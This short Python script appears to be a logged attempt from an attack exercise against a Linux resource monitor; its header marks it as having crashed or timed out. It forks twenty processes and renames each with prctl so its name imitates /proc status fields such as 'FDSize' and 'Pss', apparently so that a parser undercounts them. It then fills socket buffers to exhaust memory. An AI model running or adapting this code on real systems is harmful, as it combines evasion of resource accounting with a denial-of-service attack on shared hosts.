# Tries: take names that look like lines of /proc, so that full sockets of many processes are not counted
# Deserves: 20
# Status: crashed or timed out
# Within: 40

# %%
import ctypes
import os
import socket
import time

NAMES = [b"FDSize:\t0 ", b"\rFDSize:\t0 ", b"\nFDSize:\t0 ", b"\x0bFDSize:\t0", b"\x1cPss: 0 kB", b") S 0 0 0 0"]


def fill():
    hoard = b"x" * (30 << 20)
    pairs = []
    try:
        while True:
            pairs.append(socket.socketpair())
            for end in pairs[-1]:
                end.setblocking(False)
                try:
                    while True:
                        end.send(bytes(1 << 16))
                except BlockingIOError:
                    pass
    except OSError:
        time.sleep(20)


for number in range(20):
    if os.fork() == 0:
        ctypes.CDLL(None).prctl(15, NAMES[number % len(NAMES)], 0, 0, 0)  # PR_SET_NAME
        fill()
        os._exit(0)
time.sleep(20)
